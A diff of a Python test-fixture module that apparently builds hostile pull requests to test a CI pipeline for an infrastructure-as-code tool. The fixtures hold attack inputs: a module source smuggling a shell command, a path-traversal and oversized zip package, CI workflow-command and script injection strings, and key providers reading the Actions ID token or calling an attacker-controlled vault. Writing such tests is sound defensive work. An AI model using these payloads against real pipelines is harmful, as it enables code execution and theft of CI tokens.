@@ -1,8 +1,7 @@
-"""Pull requests of people who mean no good: the files that each adds to, or puts in the place of those of, a
-reviewed tree.
+"""Hostile pull requests: the files added to, or replaced in, a reviewed tree by each.
 
-A text that begins with `->` is a link. URL is the address of somebody who waits for visitors, OUTSIDE a
-directory beside the clone that holds a secret.
+A text that begins with `->` is a link. URL is the address of a server under control of the attacker, OUTSIDE a
+directory next to the clone with a secret.
 """
 
 from __future__ import annotations
@@ -18,15 +17,15 @@ MAIN: Final = "lab/main.nf.hcl"
 MORE: Final = "lab/more.nf.hcl"
 
 
-def text(words: str) -> str:
-    """Words as a string of the configuration, every sign that is not plain escaped."""
+def quote_text(words: str) -> str:
+    """Return words as a string of the configuration, with special characters escaped."""
     plain = (sign if sign.isascii() and sign.isprintable() and sign not in '"\\$%' else None for sign in words)
     return '"' + "".join(kept or f"\\u{ord(sign):04x}" for sign, kept in zip(words, plain, strict=True)) + '"'
 
 
-def failing(words: str) -> str:
-    """A check, a precondition and an output that say these words."""
-    message = text(words)
+def build_failing_blocks(words: str) -> str:
+    """Return a check, a postcondition and an output with these words."""
+    message = quote_text(words)
     return f"""check "c" {{
   assert {{
     condition     = length(nexus_site.lab.name) == 0
@@ -49,8 +48,8 @@ output "o" {{
 """
 
 
-def encrypted(key: str) -> str:
-    """A block that encrypts the state and the plan by this key."""
+def build_encryption_block(key: str) -> str:
+    """Return a block that encrypts the state and the plan with this key."""
     return f"""nexusform {{
   encryption {{
     {key}
@@ -68,8 +67,8 @@ def encrypted(key: str) -> str:
 """
 
 
-def package() -> bytes:
-    """A VNF package whose members climb out of it, and one that unpacks to much."""
+def build_package() -> bytes:
+    """Return a VNF package with members outside of its folder, and one of excessive unpacked size."""
     content = io.BytesIO()
     with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as files:
         files.writestr("TOSCA-Metadata/TOSCA.meta", "Entry-Definitions: ../../../../OUTSIDE/secret\n")
@@ -112,19 +111,21 @@ PAGES: Final = (
 )
 
 REQUESTS: Final[dict[str, Files]] = {
-    "commands of bots in what fails": {MORE: failing("\n".join(BOTS))},
-    "commands after every kind of line end": {MORE: failing("".join(f"x{end}/merge" for end in BREAKS))},
-    "people who are called": {MORE: failing(" ".join(CALLS) + "\n" + "\n".join(CALLS))},
-    "issues that are referred to": {MORE: failing("fixes #1, closes GH-2, o/r#3 !4 \u00e9GH-5 (#6) `#7 x#8")},
-    "commands of the runner in what fails": {MORE: failing("\n".join(RUNNER))},
+    "commands of bots in what fails": {MORE: build_failing_blocks("\n".join(BOTS))},
+    "commands after every kind of line end": {MORE: build_failing_blocks("".join(f"x{end}/merge" for end in BREAKS))},
+    "people who are called": {MORE: build_failing_blocks(" ".join(CALLS) + "\n" + "\n".join(CALLS))},
+    "issues that are referred to": {
+        MORE: build_failing_blocks("fixes #1, closes GH-2, o/r#3 !4 \u00e9GH-5 (#6) `#7 x#8")
+    },
+    "commands of the runner in what fails": {MORE: build_failing_blocks("\n".join(RUNNER))},
     "commands of the runner in a mistake": {MORE: "\n".join(f'x = "{line}\n{line}' for line in RUNNER)},
     "commands of the runner in names of files": {
         f"lab/{name}.nf.hcl": "a {" for name in ("##[add-mask]x", "x\n::add-mask::0\n", "\n/merge", "@all")
     },
-    "a page that is broken out of": {MORE: failing("\n".join(PAGES))},
+    "a page that is broken out of": {MORE: build_failing_blocks("\n".join(PAGES))},
     "names that are commands": {
         MORE: f"""resource "nexus_site" "x" {{
-  for_each = toset([{", ".join(map(text, (*BOTS, *CALLS, *RUNNER, *PAGES)))}])
+  for_each = toset([{", ".join(map(quote_text, (*BOTS, *CALLS, *RUNNER, *PAGES)))}])
   name     = each.key
 }}
 """
@@ -141,7 +142,7 @@ REQUESTS: Final[dict[str, Files]] = {
     },
     "modules from elsewhere": {
         MORE: "".join(
-            f'module "m{number}" {{\n  source = {text(source)}\n}}\n'
+            f'module "m{number}" {{\n  source = {quote_text(source)}\n}}\n'
             for number, source in enumerate(
                 ("git::URL/x.git", "URL/x.zip", "../../outside", "./link", "git::ext::sh -c touch% OUTSIDE/ran")
             )
@@ -171,12 +172,12 @@ output "o" {
 """
     },
     "a key of the environment": {
-        MORE: encrypted("""key_provider "environment" "k" {
+        MORE: build_encryption_block("""key_provider "environment" "k" {
       variable = "ACTIONS_ID_TOKEN_REQUEST_TOKEN"
     }""")
     },
     "a key that is asked for elsewhere": {
-        MORE: encrypted("""key_provider "azure_vault" "k" {
+        MORE: build_encryption_block("""key_provider "azure_vault" "k" {
       vault_uri = "URL"
       key_name  = "k"
     }""")
@@ -198,11 +199,11 @@ resource "nexus_site" "lab" {
   backend "http" {{}}
 }}
 resource "nexus_site" "lab" {{
-  name = {text("@all GH-1 ##[add-mask]a")}
+  name = {quote_text("@all GH-1 ##[add-mask]a")}
 }}
 resource "nexus_rack" "r" {{
   site_id       = nexus_site.lab.id
-  name          = {text("::add-mask::r <script>`@all")}
+  name          = {quote_text("::add-mask::r <script>`@all")}
   machine_count = 2
 
   availability_zone = "z1"
@@ -288,7 +289,7 @@ output "o" {
   csar    = "v.csar"
 }
 """,
-        "lab/v.csar": package,
+        "lab/v.csar": build_package,
     },
     "a great many": {
         MORE: """resource "nexus_site" "many" {
